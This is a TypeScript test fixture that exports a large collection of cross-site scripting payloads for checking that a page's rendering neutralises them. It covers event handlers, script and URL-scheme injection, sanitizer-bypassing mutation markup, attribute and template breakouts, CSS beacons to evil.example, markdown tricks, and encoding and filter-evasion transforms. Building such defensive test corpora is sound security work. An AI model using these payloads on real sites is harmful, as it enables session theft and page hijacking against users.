/**
 * What people try to make a page run, by kind. Each calls `pwned()` where it succeeds; stories look
 * that none does, and a page without our rendering shows that they would.
 */

const EVENTS = [
  "<img src=x onerror=pwned()>", "<svg onload=pwned()>", "<body onload=pwned()>",
  "<video><source onerror=pwned()></video>", "<audio src=x onerror=pwned()></audio>",
  "<details open ontoggle=pwned()>", "<input autofocus onfocus=pwned()>",
  "<textarea autofocus onfocus=pwned()></textarea>", "<select autofocus onfocus=pwned()></select>",
  "<button autofocus onfocus=pwned()>x</button>", "<a href=# autofocus onfocus=pwned()>x</a>",
  "<marquee onstart=pwned()>x</marquee>", "<marquee loop=1 width=0 onfinish=pwned()>x</marquee>",
  "<iframe onload=pwned()></iframe>", "<object data=x onerror=pwned()></object>",
  "<embed src=x onload=pwned()>", "<link rel=stylesheet href=x onerror=pwned()>",
  "<style onload=pwned()></style>",
  "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=pwned()>x</b>",
  "<b style=transition:color,1s ontransitionend=pwned()>x</b>", "<div onmouseover=pwned()>x</div>",
  "<div onclick=pwned()>x</div>", "<div onpointerenter=pwned()>x</div>",
  "<div onwheel=pwned()>x</div>", "<div contenteditable onblur=pwned()>x</div>",
  "<form onsubmit=pwned()><button>x</button></form>",
  "<form onformdata=pwned()><button>x</button></form>", "<div oncopy=pwned()>x</div>",
  "<div onpaste=pwned() contenteditable>x</div>", "<div ondragstart=pwned() draggable=true>x</div>",
  "<video autoplay onplay=pwned()><source src=x></video>",
  "<video onloadstart=pwned() src=x></video>", "<track default src=x onerror=pwned()>",
  "<image src=x onerror=pwned()>", "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
  "<svg><set onbegin=pwned() attributeName=x>", "<svg><image href=x onerror=pwned() />",
  "<svg><script>pwned()</script></svg>",
  "<svg><a xlink:href='javascript:pwned()'><text y=20>x</text></a></svg>",
  "<svg><animate attributeName=href values=javascript:pwned() /></svg>",
  "<svg><use href='data:image/svg+xml,<svg id=x onload=pwned()>#x' /></svg>",
  "<svg><foreignObject><img src=x onerror=pwned()></foreignObject></svg>",
  "<math><maction actiontype=statusline xlink:href=javascript:pwned()>x</maction></math>",
  "<math href='javascript:pwned()'>x</math>", "<keygen autofocus onfocus=pwned()>",
  "<isindex type=image src=x onerror=pwned()>", "<frameset onload=pwned()>",
  "<bgsound src=x onerror=pwned()>",
  "<dialog open onclose=pwned()><form method=dialog>x</form></dialog>",
  "<div popover id=p onbeforetoggle=pwned()>x</div><button popovertarget=p>x</button>",
  "<input type=search onsearch=pwned()>", "<meter onmouseover=pwned()>0</meter>",
  "<x onclick=pwned()>x</x>", "<x-element onconnected=pwned()>x</x-element>",
  "<base href=javascript:pwned()//><a href=x>x</a>", "<p id=x onfocusin=pwned() tabindex=0>x</p>",
];

const SCRIPTS = [
  "<script>pwned()</script>", "<script src=data:,pwned()></script>", "<SCRIPT>pwned()</SCRIPT>",
  "<script>pwned()//", "<scr<script>ipt>pwned()</scr</script>ipt>",
  "<script type=module>pwned()</script>", "<script/x>pwned()</script >",
  "<script\n>pwned()</script\n>", "<script nomodule>pwned()</script>",
  "<script>eval('pwn'+'ed()')</script>", "<script>setTimeout('pwned()')</script>",
  "<script>Function('pwned()')()</script>",
  "<script>import('data:text/javascript,pwned()')</script>",
  "<script>[].constructor.constructor('pwned()')()</script>",
  "<script>throw onerror=pwned,1</script>", "<script>location='javascript:pwned()'</script>",
  "<script>document.write('<img src=x onerror=pwned()>')</script>",
  "<script async src=//evil.example/x.js></script>",
  "<script type=importmap>{\"imports\":{}}</script>", "<script type=speculationrules>{}</script>",
  "</script><script>pwned()</script>",
  "<meta http-equiv=refresh content='0;url=javascript:pwned()'>",
  "<meta http-equiv=refresh content='0;url=data:text/html,<script>pwned()</script>'>",
  "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
  "<iframe src=javascript:parent.pwned()></iframe>",
  "<iframe srcdoc='&lt;img src=x onerror=parent.pwned()&gt;'></iframe>",
  "<object data=javascript:pwned()></object>", "<embed src=javascript:pwned()>",
  "<form action=javascript:pwned()><button>x</button></form>",
  "<button formaction=javascript:pwned() form=f>x</button>",
  "<input type=image src=x formaction=javascript:pwned()>",
  "<isindex action=javascript:pwned() type=submit>", "<portal src=javascript:pwned()></portal>",
  "<template><script>pwned()</script></template>",
  "<template shadowrootmode=open><img src=x onerror=pwned()></template>",
  "<link rel=import href=data:text/html,<script>pwned()</script>>",
  "<link rel=modulepreload href=data:text/javascript,pwned()>",
  "<?xml-stylesheet href='javascript:pwned()'?>", "<xss style=behavior:url(x.htc)>x</xss>",
  "<!--[if IE]><script>pwned()</script><![endif]-->",
];

const SCHEMES = [
  "javascript:pwned()", "JaVaScRiPt:pwned()", " javascript:pwned()", "java\tscript:pwned()",
  "java\nscript:pwned()", "\u0001javascript:pwned()", "javascript\t:pwned()",
  "javascript://x%0Apwned()", "javascript:/*x*/pwned()", "javascript:%70wned()",
  "&#106;avascript:pwned()", "&#x6A;avascript:pwned()", "javascript&colon;pwned()",
  "javascript&Tab;:pwned()", "java&NewLine;script:pwned()", "vbscript:pwned()",
  "livescript:pwned()", "data:text/html,<script>pwned()</script>",
  "data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+",
  "data:image/svg+xml,<svg onload=pwned()>", "blob:https://evil.example/pwned()",
  "filesystem:https://evil.example/temporary/pwned()", "view-source:javascript:pwned()",
  "feed:javascript:pwned()", "jar:javascript:pwned()!/", "about:blank#javascript:pwned()",
  "file:///etc/passwd?pwned()", "intent://x#Intent;scheme=javascript:pwned();end",
  "\u202Ejavascript:pwned()", "ms-settings:pwned()", "tel:javascript:pwned()",
  "ws://evil.example/pwned()",
];

const MUTATIONS = [
  "<noscript><p title=\"</noscript><img src=x onerror=pwned()>\">",
  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror"
    + "=pwned()&gt;\">",
  "<math><mtext><mglyph><style><img src=x onerror=pwned()>",
  "<svg><style><img src=x onerror=pwned()></style>",
  "<svg></p><style><a id=\"</style><img src=x onerror=pwned()>\">",
  "<svg></br><style><!--</style><img src=x onerror=pwned()>",
  "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=pwned()>",
  "<math><annotation-xml encoding=text/html><style><img src=x onerror=pwned()></style></an"
    + "notation-xml></math>",
  "<svg><desc><noscript><img src=x onerror=pwned()></noscript></desc></svg>",
  "<svg><title><style><img src=x onerror=pwned()></style></title></svg>",
  "<table><td background=javascript:pwned()>x",
  "<table><tr><td><a><table></table><style><!--</style></a><img src=x onerror=pwned()-->",
  "<select><style></select><img src=x onerror=pwned()></style>",
  "<select><template><style></select><img src=x onerror=pwned()>",
  "<option><style></option></select><b><img src=x onerror=pwned()></style></option>",
  "<xmp><p title=\"</xmp><img src=x onerror=pwned()>\">",
  "<noembed><p title=\"</noembed><img src=x onerror=pwned()>\">",
  "<noframes><p title=\"</noframes><img src=x onerror=pwned()>\">",
  "<textarea><p title=\"</textarea><img src=x onerror=pwned()>\">",
  "<title><p title=\"</title><img src=x onerror=pwned()>\">",
  "<iframe><p title=\"</iframe><img src=x onerror=pwned()>\">",
  "<style><p title=\"</style><img src=x onerror=pwned()>\">",
  "<plaintext><img src=x onerror=pwned()>", "<!--><img src=x onerror=pwned()>-->",
  "<!---><img src=x onerror=pwned()>-->", "<!--x--!><img src=x onerror=pwned()>-->",
  "<![CDATA[><img src=x onerror=pwned()>]]>", "<svg><![CDATA[><img src=x onerror=pwned()>]]></svg>",
  "<math><![CDATA[</math><img src=x onerror=pwned()>]]>",
  "<?php echo '<img src=x onerror=pwned()>' ?>",
  "<a id=x tabindex=1 onfocus=pwned()></a><form id=x><input name=attributes>",
  "<form id=f><input name=nodeName></form><img src=x onerror=pwned()>",
  "<img src=\"x` `onerror=pwned()\"", "<p title=`x onmouseover=pwned()`>x</p>",
  "<div><svg><style>*{}</style><img src=x onerror=pwned()></svg></div>",
  "<b><p><i></b><img src=x onerror=pwned()></i></p>",
  "<dl><dt><table><dd><img src=x onerror=pwned()></dd></table></dt></dl>",
  "<ruby><rtc><img src=x onerror=pwned()></rtc></ruby>",
  "<svg><svg><b><noscript></svg><img src=x onerror=pwned()>",
  "<math><mi><table><mglyph><style><math><table id=\"</table>\"><img src onerror=pwned()>",
  "<a><a><img src=x onerror=pwned()></a></a>",
];

const BREAKOUTS = [
  "\"><img src=x onerror=pwned()>", "'><img src=x onerror=pwned()>", "\" onmouseover=pwned() x=\"",
  "' onmouseover=pwned() x='", "\" autofocus onfocus=pwned() \"", "` onmouseover=pwned() `",
  "--><img src=x onerror=pwned()>", "]]><img src=x onerror=pwned()>", "*/pwned()/*",
  "\";pwned();//", "';pwned();//", "\\\";pwned();//", "`;pwned();//", `\${pwned()}`,
  "</title><img src=x onerror=pwned()>", "</textarea><img src=x onerror=pwned()>",
  "</style><img src=x onerror=pwned()>", "</button></form><img src=x onerror=pwned()>",
  "</select><img src=x onerror=pwned()>", "</a><img src=x onerror=pwned()>",
  "</svg><img src=x onerror=pwned()>", "</template><img src=x onerror=pwned()>", "\u2028pwned()//",
  "\u2029pwned()//", "\r\npwned()", "x\" style=\"background:url(javascript:pwned())",
  "x' srcdoc='<script>pwned()</script>", "}};pwned();//", ");pwned();//", "];pwned();//",
];

const TEMPLATES = [
  "{{constructor.constructor('pwned()')()}}", "{{$on.constructor('pwned()')()}}",
  "{{_c.constructor('pwned()')()}}", "{{[].pop.constructor('pwned()')()}}",
  "[[constructor.constructor('pwned()')()]]", "<%= pwned() %>", "<% pwned() %>", "#{pwned()}",
  "{%raw%}{{pwned()}}{%endraw%}", "{{{pwned}}}", "{pwned()}", "@(pwned())", "$!{pwned()}",
  "{{7*7}}{{pwned()}}", "<div v-html=\"'<img src=x onerror=pwned()>'\"></div>",
  "<div ng-app ng-csp>{{$eval.constructor('pwned()')()}}</div>",
  "<div x-data x-init=pwned()></div>", "<div data-bind=\"text:pwned()\"></div>",
  "<div hx-on:load=pwned()></div>",
  "{\"dangerouslySetInnerHTML\":{\"__html\":\"<img src=x onerror=pwned()>\"}}",
  "{\"__proto__\":{\"innerHTML\":\"<img src=x onerror=pwned()>\"}}",
  "__proto__[innerHTML]=<img src=x onerror=pwned()>",
  "constructor[prototype][html]=<img src=x onerror=pwned()>",
  "{\"type\":\"script\",\"props\":{\"children\":\"pwned()\"}}",
  "{\"said\":{\"text\":\"<script>pwned()</script>\"}}",
];

const STYLES = [
  "<style>@import 'javascript:pwned()';</style>",
  "<style>*{background:url(javascript:pwned())}</style>",
  "<b style=width:expression(pwned())>x</b>", "<b style=-moz-binding:url(x#pwned())>x</b>",
  "<b style=behavior:url(#pwned())>x</b>", "<style>@import url(//evil.example/pwned())</style>",
  "<b style=\"background:url('//evil.example/pwned()')\">x</b>",
  "<b style=position:fixed;inset:0;z-index:9999>pwned()</b>",
  "<link rel=stylesheet href=data:text/css,*{x:pwned()}>",
  "<style>:root{--x:</style><img src=x onerror=pwned()>",
  "<style>input[value^=a]{background:url(//evil.example/pwned())}</style>",
];

const MARKDOWN = [
  "![x](javascript:pwned())", "![x](x onerror=pwned())",
  "![x\" onerror=\"pwned()](https://x.example/)", "[x]: javascript:pwned()", "<javascript:pwned()>",
  "[x](<javascript:pwned()>)", "[x](https://x.example \"\" onmouseover=pwned())",
  "[x](https://x.example\"onmouseover=pwned())",
  "[<img src=x onerror=pwned()>](https://x.example/)", "**<img src=x onerror=pwned()>**",
  "_<svg onload=pwned()>_", "~~<svg onload=pwned()>~~", "`<img src=x onerror=pwned()>`",
  "> <img src=x onerror=pwned()>", "- <img src=x onerror=pwned()>",
  "7. <img src=x onerror=pwned()>", "```html\n<img src=x onerror=pwned()>\n```",
  "@[<img src=x onerror=pwned()>](participant:00000000-0000-0000-0000-000000000000)",
  "[pinned]: #\n<img src=x onerror=pwned()>", "\\<img src=x onerror=pwned()>",
  "https://x.example/\"onmouseover=pwned()//", "https://x.example/'onmouseover='pwned()",
  "https://x.example/<script>pwned()</script>", "mailto:x@x.example\"onmouseover=pwned()",
  "mailto:x@x.example?body=<script>pwned()</script>", "http://javascript:pwned()@x.example/",
  "[a](javascript:pwned())[b](https://x.example/)", "[x](javascript&#58;pwned())",
  "[x](\u0000javascript:pwned())", "[x]( javascript:pwned() )", "# <img src=x onerror=pwned()>",
  "| <img src=x onerror=pwned()> |",
  "<details><summary>x</summary><img src=x onerror=pwned()></details>",
];

const SIGNS: Record<string, string> = {
  "<": "&lt;", ">": "&gt;", "\"": "&quot;", "(": "&lpar;", ")": "&rpar;",
};
const PLAIN_IMAGE = "<img src=x onerror=pwned()>";

/** The same in other clothes: decoded once too often, each is one of the above. */
function encoded(text: string): string[] {
  const each = (write: (code: number) => string) =>
    [...text].map((letter) => write(letter.codePointAt(0) ?? 0)).join("");
  return [
    encodeURIComponent(text), encodeURIComponent(encodeURIComponent(text)),
    text.replace(/[<>"()]/g, (sign) => SIGNS[sign] ?? sign), each((code) => `&#${code};`),
    each((code) => `&#x${code.toString(16)};`),
    each((code) => `&#${String(code).padStart(7, "0")}`),
    each((code) => `\\u${code.toString(16).padStart(4, "0")}`),
    each((code) => `\\x${code.toString(16)}`),
    text.replaceAll("<", "\uFF1C").replaceAll(">", "\uFF1E"),
    text.replaceAll("<", "+ADw-").replaceAll(">", "+AD4-"),
    text.replaceAll("<", "%C0%BC").replaceAll(">", "%C0%BE"), btoa(text),
  ];
}

/** Tags as filters do not expect them, and browsers take them. */
function disguised(text: string): string[] {
  return [
    text.replace(/ on/g, "/on"), text.replace(/ on/g, "\ton"), text.replace(/ on/g, "\fon"),
    text.replace(/<[a-z]+/g, (tag) => tag.toUpperCase()), text.replaceAll("pwned()", "pwned`x`"),
    text.replaceAll("=pwned()", "=\"&#112;wned()\""), text.replace(/>/, " x=\"> \">"), `<${text}`,
    text.replaceAll("<", "<\u0000"), text.replaceAll("on", "o\u200Bn"),
  ];
}

const links = (address: string) => [
  address, `<a href="${address}">x</a>`, `[x](${address})`, `<img src="${address}">`,
];

/** No two are the same. */
export const PAYLOADS: readonly string[] = [
  ...new Set([
    ...EVENTS, ...SCRIPTS, ...SCHEMES.flatMap(links), ...MUTATIONS, ...BREAKOUTS, ...TEMPLATES,
    ...STYLES, ...MARKDOWN, ...[PLAIN_IMAGE, "<script>pwned()</script>"].flatMap(encoded),
    ...EVENTS.slice(0, 12).flatMap(disguised),
  ]),
];

/** As names, titles and subjects, which are short and of one line. */
export const SHORT: readonly string[] = PAYLOADS.filter(
  (text) => text.length <= 100 && !/[\p{Cc}\p{Zl}\p{Zp}\u202E]/u.test(text) && text.trim() === text,
);
